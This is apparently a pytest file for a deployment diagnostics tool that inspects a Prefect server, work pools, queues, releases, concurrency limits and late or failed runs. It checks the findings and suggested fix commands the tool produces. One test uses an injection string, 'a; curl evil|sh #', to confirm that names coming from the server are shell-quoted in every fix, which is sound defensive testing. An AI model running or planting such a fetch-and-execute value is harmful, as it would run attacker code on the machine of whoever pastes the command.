"""What was seen, and what the doctor makes of it."""

from __future__ import annotations

import shlex
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from deployer import diagnosis, finding, waiting
from deployer.environment import Source
from deployer.finding import Finding
from deployer.model import Release
from deployer.seen import Deployed, Limit, Pool, Queue, Run, Server

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
A, B = "a" * 40, "b" * 40
GIT = Source(strategy="git", repository="https://git.example.invalid/team/shop.git")
SERVER = Server(auth=True, ui="https://prefect.example/api", driver=None, leases="prefect_redis.lease_storage")


def ago(seconds: float) -> datetime:
    return NOW - timedelta(seconds=seconds)


def queue(**changes: Any) -> Queue:
    return replace(Queue("default", paused=False, limit=None, active=0, polled=ago(5)), **changes)


def pool(*queues: Queue, **changes: Any) -> Pool:
    plain = Pool("alpha", "process", False, True, None, 0, 1, ago(10), 30.0, queues or (queue(),), {})
    return replace(plain, **changes)


def limit(name: str = "lock", of: int = 1, active: int = 1, **changes: Any) -> Limit:
    return replace(Limit(name, of, active, decay=0.0, enabled=True), **changes)


def deployed(**changes: Any) -> Deployed:
    plain = Deployed("1", "hello/hello", A, "alpha", "default", None, True, False, ago(3600))
    return replace(plain, **changes)


def run(**changes: Any) -> Run:
    return replace(Run("r", "otter", "1", ago(7200), "Late"), **changes)


def release(number: int = 7, result: str = "succeeded", **changes: Any) -> Release:
    plain = Release(number, "shop", "dev", A, "refs/tags/v1", "ada", "", "", "", "", {}, "2026-03-01", 1.0, result)
    return replace(plain, **changes)


def why(found: Pool | None, of: Deployed | None = None, **changes: Any) -> Finding:
    """The line about one late run."""
    of = of or deployed()
    [line] = waiting.late([run(**changes)], True, {of.id: of}, {found.name: found} if found else {}, NOW)
    return line


# -- the server


@pytest.mark.parametrize(
    ("told", "state", "said"),
    [
        ("http://0.0.0.0:4200/api", "problem", "no address"),
        ("http://[::]:4200/api", "problem", "no address"),
        ("http://localhost:4200/api", "problem", "their own machine"),
        ("http://prefect.example/api", "problem", "refuse"),
        ("https://prefect.example/api", "ok", "https://prefect.example/api"),
        ("https://outside.example/api", "ok", "https://outside.example/api"),
        ("/api", "ok", "where they got the UI from"),
        (None, "ok", "serves none"),
    ],
)
def test_the_ui_must_send_browsers_where_they_can_go(told: str | None, state: str, said: str) -> None:
    found = diagnosis.ui(replace(SERVER, ui=told), "https://prefect.example/api")
    assert (found.state, said in found.seen) == (state, True)
    assert ("PREFECT_SERVER_UI_API_URL=https://prefect.example/api" in found.fix) == (state == "problem")


def test_on_one_machine_a_loopback_address_is_right_for_the_ui() -> None:
    assert diagnosis.ui(replace(SERVER, ui="http://localhost:4200/api"), "http://127.0.0.1:4200/api").state == "ok"


@pytest.mark.parametrize(
    ("theirs", "state"),
    [("3.8.8", "ok"), ("3.8.1", "ok"), ("3.7.9", "problem"), ("2.20.1", "problem"), ("3.9.0", "warning")],
)
def test_a_server_may_not_be_older_than_its_client(theirs: str, state: str) -> None:
    assert diagnosis.versions(theirs, "3.8.8").state == state


@pytest.mark.parametrize(
    ("driver", "document", "kind"),
    [
        ("postgresql+asyncpg", {}, "PostgreSQL"),
        ("sqlite+aiosqlite", {}, "SQLite"),
        (None, {"job_configuration": {}, "variables": {}}, "SQLite"),
        (None, {"variables": {}, "job_configuration": {}}, "PostgreSQL"),
        (None, {"variables": {"b": 1, "aa": 2}}, "PostgreSQL"),
        (None, {"one": {"deep": [{"bb": 1, "a": 2}]}}, "SQLite"),
        (None, {"one": 1}, None),
        (None, {}, None),
    ],
)
def test_the_database_is_known_by_its_driver_or_by_the_order_of_keys(
    driver: str | None, document: Any, kind: str | None
) -> None:
    assert diagnosis.database_of(driver, [document]) == kind


def test_sqlite_is_for_development() -> None:
    assert diagnosis.database("SQLite", production=False).state == "ok"
    found = diagnosis.database("SQLite", production=True)
    assert found.state == "problem" and "postgresql+asyncpg://" in found.fix
    assert diagnosis.database("PostgreSQL", production=True).state == "ok"
    assert diagnosis.database(None, production=True).state == "not checked"


@pytest.mark.parametrize(("ahead", "state"), [(0.4, "ok"), (-4, "ok"), (8, "warning"), (-90, "warning")])
def test_clocks_may_differ_by_seconds(ahead: float, state: str) -> None:
    found = diagnosis.clock(ahead)
    assert found.state == state
    assert state == "ok" or ("ahead of" if ahead > 0 else "behind") in found.seen


def test_a_server_that_asks_for_no_key_is_told_in_production() -> None:
    open_to_all = replace(SERVER, auth=False)
    assert diagnosis.key(False, open_to_all, production=False).state == "ok"
    found = diagnosis.key(True, open_to_all, production=True)
    assert found.state == "warning" and "PREFECT_SERVER_API_AUTH_STRING" in found.fix
    assert [diagnosis.key(True, server, True).state for server in (SERVER, None)] == ["ok", "ok"]


def test_leases_in_the_servers_memory_are_told_in_production() -> None:
    forgetful = replace(SERVER, leases="prefect.server.concurrency.lease_storage.memory")
    assert [diagnosis.leases(forgetful, production).state for production in (False, True)] == ["ok", "warning"]
    assert diagnosis.leases(SERVER, production=True).state == "ok"


# -- what is released


def test_deployments_of_another_commit_than_the_live_one_are_stale() -> None:
    found = diagnosis.code(release(), [deployed(), deployed(name="old/old", version=B)], GIT, "dev")
    assert found.state == "problem" and "1 deployment of 2" in found.seen and "old/old" in found.seen
    assert found.fix == f"deploy.py drift --env dev, then apply --env dev --ref {A[:12]}"
    retired = deployed(version=B, retired=True)
    assert diagnosis.code(release(), [deployed(), retired], GIT, "dev").state == "ok"


def test_what_only_this_machine_can_clone_is_told() -> None:
    found = diagnosis.clone("https://git.example/shop.git", A, "could not read Username", only_here=True)
    assert found.state == "warning" and "source.credentials" in found.fix


def test_code_in_a_folder_is_pinned_to_nothing() -> None:
    found = diagnosis.code(release(), [deployed()], Source(strategy="local", directory="/opt/flows"), "dev")
    assert found.state == "warning" and "/opt/flows" in found.seen


@pytest.mark.parametrize(
    ("newest", "live", "owned", "state", "said"),
    [
        (release(), release(), 2, "ok", "release 7 (aaaaaaaaaaaa, v1) is live"),
        (release(8, "failed"), release(), 2, "warning", "release 8 ended as failed; live before it was release 7"),
        (release(8, "started"), None, 2, "warning", "release 8 has started and not ended; live before it was none"),
        (None, None, 2, "problem", "2 deployments of dev, and no release that set them"),
        (None, None, 0, "not checked", "nothing has been released to dev yet"),
    ],
)
def test_the_newest_release_should_have_succeeded(
    newest: Release | None, live: Release | None, owned: int, state: str, said: str
) -> None:
    found = diagnosis.release(newest, live, owned, "dev")
    assert found.state == state and said in found.seen


def test_no_advice_brings_back_what_was_rolled_back() -> None:
    """HEAD may be what was taken back: an apply without a ref would deploy it."""
    failed = diagnosis.release(release(8, "failed", commit=B), release(), 2, "dev")
    assert failed.fix == f"unless a deploy is at work: deploy.py apply --env dev --ref {B[:12]}, or rollback"
    back = diagnosis.release(release(9, "failed", restores=6), release(), 2, "dev")
    assert back.fix == "unless a deploy is at work: deploy.py rollback --env dev --to 6 --reason ..."


# -- pools


@pytest.mark.parametrize(
    ("changes", "state", "said", "fix"),
    [
        ({}, "ok", "READY, 1 worker, heard 10 s ago", ""),
        ({"limit": 4, "active": 3}, "ok", "3 of 4 slots taken", ""),
        ({"heartbeat": None, "ready": False}, "problem", "NOT READY: no worker has ever called", "worker start --pool"),
        ({"heartbeat": ago(600), "ready": False}, "problem", "its last worker was heard 10 min ago", "worker start"),
        ({"heartbeat": ago(600)}, "problem", "background services do not run", "prefect server services start"),
        ({"heartbeat": ago(95)}, "problem", "NOT READY", "worker start"),
        ({"heartbeat": ago(95), "interval": 60.0}, "ok", "READY", ""),
        ({"paused": True}, "warning", "paused", "prefect work-pool resume alpha"),
        ({"type": "docker"}, "problem", "its type is docker", "delete the pool"),
    ],
)
def test_a_pool_needs_a_worker_that_is_heard(changes: dict[str, Any], state: str, said: str, fix: str) -> None:
    found = diagnosis.pool("alpha", "process", pool(**changes), NOW, "dev")
    assert found.state == state and said in found.seen and fix in found.fix
    assert bool(found.fix) == (state != "ok")


def test_a_pool_that_is_not_there_is_made_by_an_apply() -> None:
    assert diagnosis.pool("alpha", "process", None, NOW, "dev").fix == "deploy.py apply --env dev"


@pytest.mark.parametrize("kind", ["ecs:push", "prefect:managed"])
def test_pools_that_prefect_cloud_serves_need_no_worker(kind: str) -> None:
    found = pool(type=kind, heartbeat=None, ready=False)
    assert diagnosis.pool("alpha", kind, found, NOW, "dev").state == "ok"
    assert "worker" not in why(found).fix.replace("worker's", "")


# -- late runs


@pytest.mark.parametrize(
    ("found", "of", "state", "said", "fix"),
    [
        (None, deployed(), "problem", "there is no work pool alpha", "apply"),
        (None, deployed(pool=None), "problem", "names no work pool", "apply"),
        (pool(heartbeat=None), deployed(), "problem", "the pool alpha has no worker", "worker start --pool alpha"),
        (pool(paused=True), deployed(), "problem", "the pool alpha is paused", "work-pool resume alpha"),
        (pool(queue(paused=True)), deployed(), "problem", "alpha/default is paused", "resume default --pool alpha"),
        (pool(queue(polled=None)), deployed(), "problem", "no worker asks the queue alpha/default", "--work-queue"),
        (pool(queue(polled=ago(90))), deployed(), "problem", "no worker asks the queue", "--work-queue default"),
        (pool(queue(limit=2, active=2)), deployed(), "warning", "the queue alpha/default is full (2 of 2)", "raise"),
        (pool(limit=3, active=3), deployed(), "warning", "the pool alpha is full (3 of 3)", "raise"),
        (
            pool(),
            deployed(limit=limit()),
            "warning",
            "the deployment's own concurrency limit is full (1 of 1)",
            "limits",
        ),
        (pool(), deployed(), "problem", "nothing that the API shows holds them", "--limit"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_late_run_is_told_with_what_holds_it(
    found: Pool | None, of: Deployed, state: str, said: str, fix: str
) -> None:
    line = why(found, of)
    assert (line.check, line.state) == ("late runs", state)
    assert said in line.seen and fix in line.fix and "1 run of hello/hello, the oldest due 2 h ago" in line.seen


def test_the_queue_that_counts_is_the_deployments_own() -> None:
    found = pool(queue(), queue(name="urgent", paused=True))
    assert "nothing that the API shows" in why(found).seen
    assert "alpha/urgent is paused" in why(found, deployed(queue="urgent")).seen


def test_late_runs_are_told_by_their_reasons() -> None:
    there = {"1": deployed(), "2": deployed(id="2", name="other/other", pool="gone")}
    runs = [run(), run(due=ago(300)), run(deployment="2")]
    lines = waiting.late(runs, False, there, {"alpha": pool(paused=True)}, NOW)
    assert [line.seen.partition(",")[0] for line in lines] == [
        "2 or more runs of hello/hello",
        "1 or more runs of other/other",
    ]
    assert waiting.late([], True, there, {}, NOW) == [finding.ok("late runs", "none")]


EVIL = "a; curl evil|sh #"


def test_a_name_of_the_servers_is_one_word_in_every_fix() -> None:
    """Whoever may name a queue must not run commands on the machine of whoever pastes a fix."""
    bad = pool(queue(name=EVIL, paused=True), name=EVIL, type=EVIL, paused=True)
    quiet = replace(bad, paused=False, queues=(queue(name=EVIL, polled=None),))
    own = deployed(pool=EVIL, queue=EVIL)
    fixes = [
        *(line.fix for line in diagnosis.queues([bad])),
        *(line.fix for line in waiting.limits([limit(EVIL)], {EVIL}, {})),
        *(diagnosis.pool(EVIL, EVIL, p, NOW, "dev").fix for p in (bad, replace(quiet, heartbeat=None))),
        *(why(p, own).fix for p in (bad, replace(bad, paused=False), quiet, replace(quiet, heartbeat=None))),
    ]
    assert len(fixes) == 8
    for fix in fixes:
        assert EVIL in shlex.split(fix) and EVIL not in fix.replace(f"'{EVIL}'", "")


# -- schedules, limits, failures


def test_schedules_without_runs_ahead_are_the_schedulers_fault_when_none_has_any() -> None:
    both = [deployed(), deployed(id="2", name="other/other")]
    assert waiting.schedules(both, {"1", "2"}, NOW).state == "ok"
    some, none = waiting.schedules(both, {"1"}, NOW), waiting.schedules(both, set(), NOW)
    assert (some.state, none.state) == ("warning", "problem")
    assert "other/other" in some.seen and "sqlalchemy<2.1" in none.fix


def test_what_was_written_just_now_may_still_have_no_runs() -> None:
    assert waiting.schedules([deployed(updated=ago(30))], set(), NOW).state == "ok"
    assert waiting.schedules([deployed(scheduled=False)], set(), NOW).seen == "no schedule is active"


def test_a_full_limit_without_a_run_is_a_dead_runs_lock() -> None:
    [stuck] = waiting.limits([limit(), limit("other")], {"lock"}, {})
    assert stuck.state == "problem" and stuck.fix.endswith("prefect gcl update lock --active-slots 0")
    [held] = waiting.limits([limit(), limit("free", active=0)], set(), {"lock": "deployment hello/hello"})
    assert held.state == "ok" and held.seen == "2 limits, none held by a dead run; full: deployment hello/hello"


@pytest.mark.parametrize("changes", [{"decay": 0.5}, {"enabled": False}, {"active": 0}, {"limit": 0, "active": 0}])
def test_limits_that_hold_nothing_back_for_good_are_not_full(changes: dict[str, Any]) -> None:
    assert not limit(**changes).full


def test_a_limit_of_0_is_told() -> None:
    [found] = waiting.limits([limit(of=0, active=0)], set(), {})
    assert found.state == "warning" and "lets nothing through" in found.seen
    assert "in the repository" in found.fix and "gcl" not in found.fix


LOG = """Unexpected exception encountered when trying to load flow
Traceback (most recent call last):
    import polars
ModuleNotFoundError: No module named 'polars'

The above exception was the direct cause of the following exception:
prefect.exceptions.ScriptError: Script at 'flows/hello.py' encountered an exception: ModuleNotFoundError(...)"""


def test_a_run_that_could_not_import_its_flow_is_told_with_the_module() -> None:
    found = waiting.failures([run(state="Crashed"), run()], True, LOG, {"1": deployed()})
    assert found.state == "problem" and "2 runs of hello/hello" in found.seen
    assert "'otter', could not import its flow: ModuleNotFoundError: No module named 'polars'" in found.seen


def test_other_failures_are_the_flows_own() -> None:
    found = waiting.failures([run(state="Failed", message="no such table: bars")], True, LOG, {"1": deployed()})
    assert found.state == "warning" and found.seen.endswith("the newest, 'otter': no such table: bars")
    assert waiting.failures([], True, "", {}).state == "ok"


@pytest.mark.parametrize(
    ("seconds", "words"), [(0.4, "0 s"), (119, "119 s"), (600, "10 min"), (7200, "2 h"), (400_000, "5 days")]
)
def test_spans_are_told_in_the_unit_that_fits(seconds: float, words: str) -> None:
    assert finding.span(seconds) == words
